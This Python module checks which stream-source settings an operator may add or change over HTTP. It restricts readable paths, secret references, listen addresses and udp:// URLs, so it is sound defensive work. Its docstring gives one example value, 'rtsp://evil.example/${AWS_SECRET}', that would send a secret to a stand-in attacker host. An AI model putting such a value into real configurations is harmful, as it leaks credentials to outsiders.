"""What may be added and changed over HTTP.

Whoever writes the config is at this machine already. Whoever has the operator's token need not be, and a section says
what this program reads, and what it sends where. So, unless the config says otherwise:

- Only kinds that read the network or a device. A file's pictures and lines would be shown on the page: what lies in
  the folders of `web.files` may be read, by its real path, and nothing else.
- No `${NAME}`, but those of `web.references`: `url: rtsp://evil.example/${AWS_SECRET}` would send it there. `${file:…}`
  never.
- A secret that stands in a section stays with what it was given to: as long as it is there, only how the stream is
  judged can be changed, not where it connects to.
- Nothing listens but at this machine's own addresses: a new door into the network is the config's to open. FFmpeg has
  `udp://` listen at all of them, whatever it names.
- No model by its path, and no properties of libraries that name files.

Where a source may connect to is `network`'s to say; cameras are in private networks, so those are open by default.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterator, Mapping
from typing import Any

from pipeline.app.config.cascades import is_path
from pipeline.app.config.settings import FILE_KINDS, WebSettings
from pipeline.app.config.shown import holds_secret, is_secret
from pipeline.core.errors import InputError, InputErrors
from pipeline.core.secrets import HIDDEN
from pipeline.core.settings import StreamSettings

_PATHS = frozenset({"path", "reference", "ca_file"})
_NEVER = frozenset({"options"})  # of librdkafka: files, and libraries to load
_NEED_PATH = frozenset(FILE_KINDS) - {"line"}
_REFERENCE = re.compile(r"\$\{([^}]*)\}?")
_HARMLESS = frozenset(StreamSettings.model_fields)
_LISTENS = re.compile(r"\s*udp:", re.IGNORECASE)
_HOST = re.compile(r"^(?:(?P<host>.*):)?\d+$")


class HttpAdmission:
    """As the settings of the page say."""

    def __init__(self, settings: WebSettings) -> None:
        self._kinds = (*settings.kinds, *(kind for kind in FILE_KINDS if settings.files and kind not in settings.kinds))
        self._folders = tuple(os.path.realpath(os.path.expanduser(one)) for one in settings.files)
        self._references = frozenset(settings.references)

    @property
    def kinds(self) -> tuple[str, ...]:
        """Those that may be added."""
        return self._kinds

    def check(self, name: str, section: Mapping[str, Any], before: Mapping[str, Any] | None) -> None:
        """Raises `InputErrors` with all that is not admitted. The file system is not asked about what is not."""
        place = f"sources.{name}"
        found = list(self._section(section, before or {}, place))
        if before is not None:
            found += _moved(section, before, place)
        if found:
            raise InputErrors(found)

    def _section(self, section: Mapping[str, Any], before: Any, place: str) -> Iterator[InputError]:
        kind = section.get("kind")
        was = before.get("kind") if isinstance(before, Mapping) else None
        if isinstance(kind, str) and kind not in self._kinds and kind != was:
            of_files = kind in FILE_KINDS and not self._folders
            how = "the folders of `web.files`" if of_files else f"`web.kinds` (now {', '.join(self._kinds)})"
            yield InputError(f'"{kind}" may not be added here: {how} in the config would allow it', f"{place}.kind")
        if kind in _NEED_PATH and "path" not in section:
            yield InputError("is needed", f"{place}.path")
        yield from self._values(section, before, place)

    def _values(self, value: Any, before: Any, place: str, key: str = "") -> Iterator[InputError]:
        if value == before:
            return  # it was in the config
        if isinstance(value, Mapping):
            if isinstance(value.get("of"), Mapping):
                inner = before.get("of") if isinstance(before, Mapping) else None
                yield from self._section(value["of"], inner, f"{place}.of")
            for name, one in value.items():
                if name != "of":
                    old = before.get(name) if isinstance(before, Mapping) else None
                    yield from self._key(name, one, old, f"{place}.{name}")
        elif isinstance(value, list):
            for number, one in enumerate(value):
                yield from self._values(one, None, f"{place}.{number}", key)
        elif isinstance(value, str):
            yield from self._text(key, value, place)
        elif key == "path":  # a number opens a descriptor
            yield InputError("should be a text", place)

    def _key(self, name: str, value: Any, before: Any, place: str) -> Iterator[InputError]:
        if name in _NEVER and value != before:
            yield InputError("can be set in the config only", place)
        elif name == "listen" and value != before:
            if not _is_here(value):
                yield InputError("should be an address of this machine alone, like 127.0.0.1:9000", place)
        else:
            yield from self._values(value, before, place, name)

    def _text(self, key: str, value: str, place: str) -> Iterator[InputError]:
        if HIDDEN in value:
            yield InputError(f"{HIDDEN} stands for a secret that is not shown: give it anew, or leave it out", place)
        for name in _REFERENCE.findall(value):
            if name.strip() not in self._references:
                yield InputError("${…} may not be used here: `web.references` in the config would allow a name", place)
                break
        if key in _PATHS and not self._may_read(value):
            folders = " " + ", ".join(self._folders) if self._folders else " the folders of `web.files`"
            yield InputError(f"only what lies in{folders} may be read", place)
        elif key == "cascade" and is_path(value):
            yield InputError("a model is named here, not its file", place)
        elif key == "url" and _LISTENS.match(value):
            yield InputError("udp:// listens to whoever reaches this machine: it can be set in the config only", place)
        elif key == "device" and ".." in value:
            yield InputError("should be a device, without any ..", place)

    def _may_read(self, path: str) -> bool:
        if path.startswith("~"):
            return False
        try:
            real = os.path.realpath(path)
        except (OSError, ValueError):
            return False
        return any(os.path.commonpath((real, folder)) == folder for folder in self._folders)


def _is_here(listen: object) -> bool:
    found = _HOST.match(str(listen))
    return found is not None and (found["host"] or "127.0.0.1") in {"127.0.0.1", "localhost", "[::1]"}


def _moved(section: Mapping[str, Any], before: Mapping[str, Any], place: str) -> Iterator[InputError]:
    """A secret that stays must not go elsewhere."""
    new, old = dict(_leaves(section)), dict(_leaves(before))
    changed = {key for key in new.keys() | old.keys() if new.get(key) != old.get(key) and not _HARMLESS & {*key}}
    for key, value in new.items() if changed else ():
        if old.get(key) == value and holds_secret(value, secret=any(map(is_secret, key))):
            names = ", ".join(sorted(".".join(one) for one in changed))
            yield InputError(
                f"holds a secret, which is not to go elsewhere: give it anew to change {names}", ".".join((place, *key))
            )


def _leaves(value: Any, key: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
    if isinstance(value, (Mapping, list)):
        entries = value.items() if isinstance(value, Mapping) else enumerate(value)
        for name, one in entries:
            yield from _leaves(one, (*key, str(name)))
    else:
        yield key, value
